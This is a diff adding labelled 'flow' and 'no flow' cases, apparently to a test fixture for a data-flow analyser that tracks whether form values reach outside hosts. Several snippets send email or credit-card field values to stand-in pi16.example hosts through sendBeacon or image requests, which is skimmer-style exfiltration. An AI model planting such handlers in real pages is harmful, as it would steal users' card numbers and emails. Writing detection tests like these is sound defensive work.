@@ -100,3 +100,34 @@ document.querySelector('#pay').onclick = () => {
   plain.send('https://pag.pi16.example/c', { card: document.querySelector('input[autocomplete=cc-number]').value });
   safe.send('https://pas.pi16.example/c', { n: 1 });
 };
+
+//# first-two-of-what-is-given
+// no flow
+// why: the third argument stays here
+const ping = (...given) => navigator.sendBeacon('https://ftg.pi16.example/' + given.slice(0, 2).join('/'));
+document.querySelector('#email').onblur = (e) => ping('form', 'blur', e.target.value);
+
+//# all-but-the-first-of-what-is-given
+// flow: email > abf.pi16.example via beacon
+function event() {
+  var rest = Array.prototype.slice.call(arguments, 1);
+  navigator.sendBeacon('https://abf.pi16.example/e', JSON.stringify(rest));
+}
+document.querySelector('#email').onblur = function () { event('blur', 7, this.value); };
+
+//# the-name-comes-first
+// no flow
+// why: what is sent is the second argument, and the first is the number
+function track() {
+  var rest = [].slice.call(arguments, 1);
+  new Image().src = 'https://tnf.pi16.example/t.gif?e=' + rest[0];
+}
+document.querySelector('input[autocomplete=cc-number]').onblur = function () { track(this.value, 'blur'); };
+
+//# the-name-comes-last
+// flow: card > tnl.pi16.example via image
+function track2() {
+  var rest = [].slice.call(arguments, 1);
+  new Image().src = 'https://tnl.pi16.example/t.gif?e=' + rest[0];
+}
+document.querySelector('input[autocomplete=cc-number]').onblur = function () { track2('blur', this.value); };
